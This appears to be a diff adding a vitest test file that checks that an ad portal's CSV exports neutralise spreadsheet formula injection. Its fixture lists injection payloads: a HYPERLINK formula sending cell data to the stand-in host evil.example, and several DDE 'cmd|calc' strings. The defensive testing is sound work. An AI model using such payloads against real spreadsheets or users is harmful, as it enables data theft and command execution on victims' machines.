@@ -1,0 +1,123 @@
+import { unzipSync } from 'fflate';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { TestApp } from '../test/app.ts';
+import { activateAgencyRole, createAgency, createAgencyTestApp, grantAccess } from '../test/agencies.ts';
+import { call, createLineItem, createOrder, registerUser, type RegisteredUser } from '../test/factories.ts';
+
+/**
+ * Formula injection (issue 28, item 2): text an advertiser types is written into every CSV the portal makes (the
+ * metrics' `?format=csv`, "Download my data"), and opened in a spreadsheet by the advertiser or by their agency. No
+ * cell of any of them may start as a formula.
+ */
+
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?c="&A2,"Open report")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+cmd|calc',
+  '-2+3+cmd|calc',
+];
+
+let t: TestApp;
+let client: RegisteredUser;
+let agencyToken: string;
+let viewAs: string;
+let day: string;
+
+/** The cells of a CSV file as a spreadsheet reads them (RFC 4180 quoting undone). */
+function cellsOf(csv: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < csv.length; i += 1) {
+    const char = csv[i]!;
+    if (quoted && char === '"' && csv[i + 1] === '"') {
+      cell += '"';
+      i += 1;
+    } else if (char === '"') {
+      quoted = !quoted;
+    } else if (!quoted && (char === ',' || char === '\n')) {
+      cells.push(cell);
+      cell = '';
+    } else if (quoted || char !== '\r' || csv[i + 1] !== '\n') {
+      cell += char;
+    }
+  }
+  return cells;
+}
+
+/** A cell a spreadsheet would evaluate (a plain negative number is a number, not a formula). */
+const isFormula = (cell: string) =>
+  /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
+
+/** No cell of the file starts as a formula; the formulas typed are there, neutralised by a leading `'`. */
+function expectNeutralised(csv: string, typed: readonly string[]): void {
+  const cells = cellsOf(csv);
+  expect(cells.filter(isFormula)).toEqual([]);
+  for (const formula of typed) expect(cells).toContain(`'${formula}`);
+}
+
+beforeAll(async () => {
+  t = await createAgencyTestApp();
+  client = await registerUser(t);
+  const agencyAdmin = await registerUser(t);
+  await createAgency(t, agencyAdmin);
+  agencyToken = await activateAgencyRole(t, agencyAdmin);
+  viewAs = String(client.user.user_id);
+  await grantAccess(t, agencyToken, client);
+  day = t.clock.now().toISOString().slice(0, 10);
+  for (const [index, formula] of FORMULAS.entries()) {
+    const orderId = await createOrder(t, client, { name: formula, notes: `=NOTES()${index}` });
+    const lineItemId = await createLineItem(t, client, orderId, { name: formula });
+    await t.app.database.db.execute(
+      `insert into adserver_daily_stats (line_item_id, day, impressions, clicks) values (${lineItemId}, '${day}', 10, 1)`,
+    );
+  }
+});
+afterAll(() => t?.close());
+
+describe('CSV files and formulas', () => {
+  it('writes no formula into the metrics CSV, neither for the advertiser nor for their agency', async () => {
+    const own = await call(t, 'GET', `/api/v2/metric/orders?from=${day}&to=${day}&format=csv`, {
+      token: client.token,
+    });
+    expect(own.status).toBe(200);
+    expectNeutralised(String(own.body), FORMULAS);
+    const agency = await call(
+      t,
+      'GET',
+      `/api/v2/metric/orders?from=${day}&to=${day}&format=csv&viewAs=${viewAs}`,
+      {
+        token: agencyToken,
+      },
+    );
+    expect(agency.status).toBe(200);
+    expect(String(agency.body)).toBe(String(own.body));
+  });
+
+  it("writes no formula into any CSV file of the advertiser's data archive", async () => {
+    expect((await call(t, 'POST', '/api/v2/user/export', { token: client.token, body: {} })).status).toBe(
+      200,
+    );
+    await t.app.jobs.runDue();
+    const state = (await call(t, 'GET', '/api/v2/user/export', { token: client.token })).body;
+    expect(state.status).toBe('ready');
+    const res = await fetch(`${t.url}${state.downloadUrl}`, {
+      headers: { authorization: `Bearer ${client.token}` },
+    });
+    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
+    const csvNames = Object.keys(files).filter((name) => name.endsWith('.csv'));
+    expect(csvNames).toEqual(
+      expect.arrayContaining(['campaigns/campaigns.csv', 'campaigns/line-items.csv', 'metrics/metrics.csv']),
+    );
+    const csv = (name: string) => Buffer.from(files[name]!).toString('utf8');
+    for (const name of csvNames) expectNeutralised(csv(name), []);
+    const notes = FORMULAS.map((_, index) => `=NOTES()${index}`);
+    expectNeutralised(csv('campaigns/campaigns.csv'), [...FORMULAS, ...notes]);
+    // A line item's name is the one typed with its number in the campaign.
+    expectNeutralised(
+      csv('campaigns/line-items.csv'),
+      FORMULAS.map((formula) => `${formula} #1`),
+    );
+    expectNeutralised(csv('metrics/metrics.csv'), FORMULAS);
+  });
+});
